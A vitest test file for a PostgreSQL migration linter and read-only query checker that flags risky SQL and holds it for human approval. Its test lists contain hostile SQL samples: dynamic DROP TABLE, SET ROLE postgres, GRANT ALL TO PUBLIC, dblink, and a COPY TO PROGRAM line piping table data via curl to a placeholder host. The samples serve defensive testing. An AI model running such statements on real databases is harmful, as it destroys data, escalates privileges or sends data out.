import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { checkReadOnlySql } from '../../machines/lib/read-only.js';
import {
  lintMigration,
  migration,
  migrationAgents,
  parseMigration,
  type Snapshot,
  takeSnapshot,
  template,
} from '../../machines/migration.js';
import type { Database } from '../../src/db/port.js';
import { bothAdapters } from '../support/databases.js';
import { testEngine } from '../support/engine.js';

/** A schema of another shape than the sample: varchar keys, an enum, a view, a partitioned table. */
const SHAPE = (s: string) => `
  CREATE SCHEMA ${s};
  CREATE TYPE ${s}.mood AS ENUM ('ok', 'meh');
  CREATE TABLE ${s}.artist (code varchar(60) PRIMARY KEY, name varchar(60) NOT NULL, mood ${s}.mood);
  CREATE TABLE ${s}.track (id int PRIMARY KEY, artist varchar(60) REFERENCES ${s}.artist (code), ms int);
  CREATE TABLE ${s}.audit_log (id bigint, at timestamptz DEFAULT now());
  CREATE TABLE ${s}.plays (at date NOT NULL, track int) PARTITION BY RANGE (at);
  CREATE TABLE ${s}.plays_2024 PARTITION OF ${s}.plays FOR VALUES FROM ('2024-01-01') TO ('2025-01-01');
  CREATE VIEW ${s}.long_tracks AS SELECT * FROM ${s}.track WHERE ms > 300000;
  INSERT INTO ${s}.artist SELECT 'a' || g, 'artist ' || g, 'ok' FROM generate_series(1, 50) g;
  INSERT INTO ${s}.track SELECT g, 'a' || (g % 50 + 1), g * 1000 FROM generate_series(1, 500) g;
  INSERT INTO ${s}.audit_log SELECT g FROM generate_series(1, 100) g;
  ANALYZE ${s}.artist; ANALYZE ${s}.track; ANALYZE ${s}.audit_log;`;

/** A populated table in a snapshot, for lint-only tests. */
const table = (name: string, columns: [string, string][] = []): Snapshot['tables'][number] => ({
  name,
  estimatedRows: 1000,
  primaryKey: [],
  columns: columns.map(([n, type]) => ({
    name: n,
    type,
    notNull: false,
    default: null,
    generated: '',
    identity: '',
  })),
  constraints: [],
  indexes: [],
});
const before: Snapshot = {
  schema: 'public',
  views: [],
  tables: [
    table('audit_log'),
    table('t', [
      ['name', 'character varying(60)'],
      ['n', 'integer'],
      ['c', 'text'],
    ]),
  ],
};
const lint = async (sql: string) => lintMigration(await parseMigration(sql), before);
const rules = async (sql: string) => (await lint(sql)).findings.map((f) => `${f.severity}:${f.rule}`);

describe('the migration lint on hostile SQL (PostgreSQL parser)', () => {
  it('needs an approval for anything not proven safe', async () => {
    const hostile = [
      `DO $$ BEGIN EXECUTE 'DROP TABLE audit_log'; END $$`,
      `CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$ DELETE FROM audit_log $$; SELECT f()`,
      'CREATE PROCEDURE p() LANGUAGE sql AS $$ TRUNCATE audit_log $$; CALL p()',
      'SET ROLE postgres',
      'SET search_path = elsewhere',
      `COPY audit_log TO PROGRAM 'curl -d @- example.invalid'`,
      'GRANT ALL ON audit_log TO PUBLIC',
      'CREATE EXTENSION dblink',
      'INSERT INTO audit_log (id) SELECT purge_everything()',
      'SELECT pg_terminate_backend(42)',
    ];
    for (const sql of hostile) {
      const l = await lint(sql);
      expect(l.destructive, sql).toBe(true);
      expect(
        l.findings.some((f) => f.rule === 'unproven'),
        sql,
      ).toBe(true);
    }
  });

  it('sees through comments, dollar quotes and several statements in one string', async () => {
    // The DROP after the comment is a statement; the one in the dollar quote and the string is data.
    const statements = await parseMigration(`/* ; */ ALTER TABLE t ADD COLUMN a int; -- ; DROP TABLE t
      CREATE TABLE x (note text DEFAULT $q$; DROP TABLE t; $q$);SELECT ';DROP TABLE t' ;DROP TABLE audit_log`);
    expect(statements.map((s) => s.operation.kind)).toEqual([
      'alter-table',
      'create-table',
      'select',
      'drop-table',
    ]);
    expect(await rules(`ALTER TABLE t ADD COLUMN a int /* ; DROP TABLE t */`)).toEqual([]);
    await expect(parseMigration(`ALTER TABLE t ADD COLUMN a int; $$ DROP TABLE t`)).rejects.toThrow(/parse/);
  });

  it('accepts the safe forms without an approval', async () => {
    const l = await lint(`CREATE INDEX CONCURRENTLY t_n ON t (n);
      ALTER TABLE t ADD CONSTRAINT n_pos CHECK (n > 0) NOT VALID;
      ALTER TABLE t VALIDATE CONSTRAINT n_pos;
      ALTER TABLE t ALTER COLUMN name TYPE varchar(120), ALTER COLUMN c TYPE varchar;
      ALTER TABLE t ADD COLUMN created timestamptz DEFAULT now(), ADD COLUMN flag boolean DEFAULT false;
      SET lock_timeout = '2s'; CREATE VIEW v AS SELECT 1; COMMENT ON TABLE t IS 'x'`);
    expect(l).toMatchObject({ destructive: false, blocked: false, rewrites: 0 });
    expect(l.findings.map((f) => f.rule)).toEqual([
      'concurrent-index',
      'validate-separately',
      'binary-coercible',
      'binary-coercible',
    ]);
    expect(l.locks.map((x) => x.lock)).toEqual([
      'SHARE UPDATE EXCLUSIVE',
      'ACCESS EXCLUSIVE',
      'SHARE UPDATE EXCLUSIVE',
      'ACCESS EXCLUSIVE',
      'ACCESS EXCLUSIVE',
    ]);
  });

  // Found by review: each of these changed data with no approval.
  it('asks a human before what changes data out of the statement kinds it grades', async () => {
    const cases: [string, string][] = [
      [
        'INSERT INTO t (id, v) SELECT id, 0 FROM t ON CONFLICT (id) DO UPDATE SET v = excluded.v',
        'danger:update',
      ],
      ["ALTER TYPE mood RENAME VALUE 'sad' TO 'glad'", 'danger:unproven'],
      ['ALTER TABLE t ADD CONSTRAINT ok CHECK (zap(id))', 'danger:unproven'],
      ['ALTER TABLE t ADD COLUMN c int DEFAULT zap()::int', 'danger:unproven'],
      ["ALTER TABLE t ADD CONSTRAINT ok CHECK (setval('s.seq', 1) > 0)", 'danger:unproven'],
      ['DROP INDEX t_u CASCADE', 'danger:unproven'],
      ['CREATE OR REPLACE VIEW other.prices AS SELECT 0 AS price', 'danger:names-other-schema'],
      ['COMMENT ON TABLE other.x IS NULL', 'danger:names-other-schema'],
      ["ALTER TYPE other.st RENAME VALUE 'a' TO 'b'", 'danger:names-other-schema'],
      ['DROP INDEX other.big_v', 'danger:names-other-schema'],
      // No revert can drop an enum label: asked for up front, with why (see lint-irreversible.ts).
      ["ALTER TYPE mood ADD VALUE 'meh'", 'danger:irreversible'],
    ];
    for (const [sql, rule] of cases) expect(await rules(sql), sql).toContain(rule);
    // What stays free of an approval: a default of a known function, a column reference.
    for (const sql of [
      'ALTER TABLE t ADD COLUMN at timestamptz DEFAULT now()',
      'ALTER TABLE t ADD CONSTRAINT pos CHECK (t.n > 0)',
    ])
      expect(
        (await rules(sql)).filter((r) => r.startsWith('danger')),
        sql,
      ).toEqual([]);
  });

  it('flags what blocks, rewrites or breaks clients, with the safe way', async () => {
    expect(
      await rules(`CREATE INDEX t_n ON t (n);
        ALTER TABLE t ADD COLUMN u uuid DEFAULT gen_random_uuid();
        ALTER TABLE t ADD COLUMN v int DEFAULT my_func();
        ALTER TABLE t ALTER COLUMN name TYPE varchar(20);
        ALTER TABLE t ALTER COLUMN n TYPE bigint;
        ALTER TABLE t RENAME COLUMN c TO d;
        ALTER TABLE t ADD CONSTRAINT u UNIQUE (n);
        ALTER TABLE t ADD CONSTRAINT f FOREIGN KEY (n) REFERENCES audit_log (id);
        CREATE TABLE z (id serial PRIMARY KEY, owner_id integer, at timestamp)`),
    ).toEqual([
      'warning:blocking-index',
      'warning:table-rewrite',
      // my_func() runs on every row as the default: a function can hold any SQL.
      'danger:unproven',
      'warning:volatile-default',
      'danger:alter-type',
      'warning:table-rewrite',
      'warning:table-rewrite',
      'warning:rename',
      'warning:index-build-under-lock',
      'warning:validating-constraint',
      'info:prefer-identity',
      'info:prefer-bigint',
      'info:prefer-timestamptz',
    ]);
    const messages = (await lint('CREATE INDEX t_n ON t (n); ALTER TABLE t ADD CONSTRAINT u UNIQUE (n)'))
      .findings;
    expect(messages.map((f) => f.message).join(' ')).toMatch(/CONCURRENTLY.*USING INDEX/s);
    expect(await rules('BEGIN; VACUUM t')).toEqual(['error:transaction-control', 'error:non-transactional']);
  });

  it('holds for an approval what can hide or lose rows, or stop what protects them, that it does not analyse', async () => {
    for (const sql of [
      'ALTER TABLE t DETACH PARTITION t_2023',
      'ALTER TABLE t SET UNLOGGED',
      'ALTER TABLE t DISABLE TRIGGER ALL',
      'ALTER TABLE t ENABLE ROW LEVEL SECURITY',
      'ALTER TABLE t ADD CONSTRAINT no_overlap EXCLUDE USING gist (n WITH =)',
    ]) {
      const result = await lint(sql);
      expect(result.destructive, sql).toBe(true);
      expect(result.findings.map((f) => `${f.severity}:${f.rule}`)).toContain('danger:unanalysed');
    }
    expect(await rules('ALTER TABLE t DROP CONSTRAINT t_n_check')).toEqual(['danger:drop-constraint']);
    // CONCURRENTLY commits on its own: refused, as VACUUM is, rather than failing in the dry run.
    expect(await rules('ALTER TABLE t DETACH PARTITION t_2023 CONCURRENTLY')).toEqual([
      'error:non-transactional',
    ]);
    // CASCADE: what depends on it elsewhere goes too, which the approval must say.
    expect(await rules('ALTER TABLE t DROP COLUMN c CASCADE')).toEqual([
      'danger:drop-column',
      'danger:cascade',
    ]);
    expect(await rules('ALTER TABLE t DROP COLUMN c')).toEqual(['danger:drop-column']);
  });
});

describe('the read-only check (PostgreSQL parser)', () => {
  it('refuses writes hidden in CTEs, comments, several statements, locks and side effects', async () => {
    const refused = [
      'WITH gone AS (DELETE FROM t RETURNING *) SELECT * FROM gone',
      'SELECT 1; DROP TABLE t',
      'SELECT 1 /* ; */ ; SET ROLE postgres',
      'SELECT * FROM t FOR UPDATE',
      "SELECT pg_catalog.set_config('role', $1, false)",
      "COPY t TO PROGRAM 'x'",
      'SELECT dblink_exec($1)',
    ];
    for (const sql of refused) {
      expect(
        (await checkReadOnlySql(sql, sql.includes('$1') ? ['x'] : [], { allowLiterals: true })).problems,
        sql,
      ).not.toEqual([]);
    }
    const ok = await checkReadOnlySql(
      `SELECT 'a;b' AS x /* DROP */ -- ; DELETE\n FROM t WHERE id = $1`,
      [1],
      {
        allowLiterals: true,
      },
    );
    expect(ok.problems).toEqual([]);
  });
});

const adapters = bothAdapters();
afterAll(() => adapters.stop(), 30_000);

describe.each(adapters.list)('lock-safe migrations on $name', (adapter) => {
  let db: Database;
  let n = 0;
  const fresh = async () => {
    const schema = `safe_${++n}`;
    await db.query(`DROP SCHEMA IF EXISTS ${schema} CASCADE`);
    for (const sql of SHAPE(schema)
      .split(';')
      .filter((s) => s.trim() !== ''))
      await db.query(sql);
    return schema;
  };
  beforeAll(async () => {
    db = await adapter.open();
  }, 60_000);
  /** Takes `mode` on `table` in a transaction that stays open until `release()`; resolves once the lock is held. */
  const holdLock = async (table: string, mode: string) => {
    let release = () => {};
    const held = new Promise<void>((resolve) => {
      release = resolve;
    });
    let locked = () => {};
    const isLocked = new Promise<void>((resolve) => {
      locked = resolve;
    });
    const done = db.transaction(async (tx) => {
      await tx.query(`LOCK TABLE ${table} IN ${mode} MODE`);
      locked();
      await held;
    });
    await isLocked;
    return { release, done };
  };

  it('runs CREATE INDEX CONCURRENTLY outside a transaction and VALIDATE after its NOT VALID commits', async () => {
    const schema = await fresh();
    const started = performance.now();
    const report = await testEngine({ agents: template.agents(db) }).start(migration, {
      schema,
      sql: `CREATE INDEX CONCURRENTLY track_ms ON track (ms);
        ALTER TABLE track ADD CONSTRAINT ms_pos CHECK (ms > 0) NOT VALID;
        ALTER TABLE track VALIDATE CONSTRAINT ms_pos;
        ALTER TABLE artist ALTER COLUMN name TYPE varchar(120)`,
    }).result;
    console.info(`lock-safe migration on ${adapter.name}: ${Math.round(performance.now() - started)} ms`);
    expect(report).toMatchObject({ status: 'applied', destructive: false, approval: null });
    const after = await takeSnapshot(db, schema);
    const track = after.tables.find((t) => t.name === 'track');
    expect(track?.indexes.map((i) => i.name)).toContain('track_ms');
    expect(track?.constraints.find((c) => c.name === 'ms_pos')).toBeDefined();
    expect(after.tables.find((t) => t.name === 'artist')?.columns.find((c) => c.name === 'name')?.type).toBe(
      'character varying(120)',
    );
    const valid = await db.query<{ v: boolean }>(
      `SELECT convalidated AS v FROM pg_constraint WHERE conname = 'ms_pos' AND connamespace = $1::regnamespace`,
      [schema],
    );
    expect(valid.rows[0]?.v).toBe(true);
  });

  it('stops a migration whose later transaction fails in the dry run: nothing is applied', async () => {
    const schema = await fresh();
    const snapshot = await takeSnapshot(db, schema);
    const run = testEngine({ agents: template.agents(db) }).start(migration, {
      schema,
      sql: `ALTER TABLE track ADD COLUMN note text;
        CREATE UNIQUE INDEX CONCURRENTLY track_artist ON track (artist)`,
    });
    await expect(run.result).rejects.toMatchObject({ stepPath: 'dryRun' });
    const now = await takeSnapshot(db, schema);
    expect(now.tables.find((t) => t.name === 'track')).toEqual(
      snapshot.tables.find((t) => t.name === 'track'),
    );
  });

  it.skipIf(adapter.name !== 'postgres')(
    'dry-runs on a scratch copy: a writer holding its table does not stop the dry run, only the apply',
    async () => {
      const schema = await fresh();
      // A writer in a long transaction: ROW EXCLUSIVE conflicts with ALTER TABLE's ACCESS EXCLUSIVE.
      const writer = await holdLock(`${schema}.track`, 'ROW EXCLUSIVE');
      const agents = migrationAgents(db, { lockTimeoutMs: 200 });
      const run = testEngine({ agents }).start(migration, {
        schema,
        sql: 'ALTER TABLE track ADD COLUMN note text',
      });
      const failure = await run.result.catch((e: unknown) => e);
      writer.release();
      await writer.done;
      expect(failure).toMatchObject({ stepPath: 'apply' });
      expect(String((failure as Error).cause)).toMatch(/lock timeout/);
      const scratch = await db.query("SELECT 1 FROM pg_namespace WHERE nspname LIKE 'flowstate_scratch_%'");
      expect(scratch.rowCount).toBe(0);
    },
    30_000,
  );

  it.skipIf(adapter.name !== 'postgres')(
    'reverts what an earlier transaction committed when a later one fails',
    async () => {
      const schema = await fresh();
      const snapshot = await takeSnapshot(db, schema);
      // SHARE UPDATE EXCLUSIVE on track: the CONCURRENTLY build of the second phase times out, the first committed.
      const holder = await holdLock(`${schema}.track`, 'SHARE UPDATE EXCLUSIVE');
      const agents = migrationAgents(db, { lockTimeoutMs: 200 });
      const run = testEngine({ agents }).start(migration, {
        schema,
        sql: 'ALTER TABLE artist ADD COLUMN note text; CREATE INDEX CONCURRENTLY track_ms ON track (ms)',
      });
      const failure = await run.result.catch((e: unknown) => e);
      holder.release();
      await holder.done;
      expect(failure).toMatchObject({ stepPath: 'apply' });
      const now = await takeSnapshot(db, schema);
      expect(now.tables.find((t) => t.name === 'artist')).toEqual(
        snapshot.tables.find((t) => t.name === 'artist'),
      );
      expect(now.tables.find((t) => t.name === 'track')?.indexes).toEqual([]);
    },
    30_000,
  );

  it('holds a DO block for a human even when it looks harmless', async () => {
    const schema = await fresh();
    const run = testEngine({ agents: template.agents(db) }).start(migration, {
      schema,
      sql: `DO $$ BEGIN EXECUTE 'DROP TABLE ${schema}.audit_log'; END $$`,
    });
    await expect.poll(() => run.waitingSteps(), { timeout: 10_000 }).toContain('approval');
    run.cancel();
    await run.result.catch(() => undefined);
    expect((await db.query(`SELECT to_regclass('${schema}.audit_log') AS t`)).rows[0]).toMatchObject({
      t: expect.anything(),
    });
  });
});
